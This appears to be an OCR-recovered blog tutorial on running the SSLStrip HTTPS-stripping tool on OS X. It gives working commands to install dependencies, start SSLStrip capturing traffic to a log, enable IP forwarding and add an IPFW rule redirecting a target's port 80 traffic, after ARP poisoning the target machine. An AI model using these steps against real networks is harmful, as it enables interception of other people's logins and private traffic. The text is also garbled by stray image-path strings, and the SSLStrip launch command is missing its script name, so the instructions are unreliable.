SSL stripping on OS X with SSLStrip

SSLStrip tool provides a demonstration of the HTTPS stripping attacks - you can download it from here.

Then on OS X 10.6.5 with MacPorts we need to install following dependancies.

1. $ sudo port selfupdate

2. $ sudo port install py25-twisted-web2

3. $ sudo port install py25-socket-ssl4. $ sudo port install py25-openssl

Now, run the following from the SSLStrip home directory.

$ sudo python -l 9090 -w captured.log

This will start SSLStrip listening on port 9090 - and will write all captured traffic in to the captured.log

Now starts the interesting part.. We need to make the traffic from our target machine goes through SSLStrip. To do that first we need to make sure the traffic flows throughour machine. That we can do by ARP poisoning target machine. My previous blog post explains how to do that. Once that is done - we need to forward all that incoming traffic to port where SSLStrip running.

Enable IP forwarding on MAC.

$ sudo sysctl -w net.inet.ip.forwarding=1
$ sudo sysctl -w net.inet.ip.fw.verbose=1

Now we need to add a rule to IPFW to redirect traffic to the portSSLStrip is running.

$ sudo ipfw add fwd,9090 log tcp from not me to any 80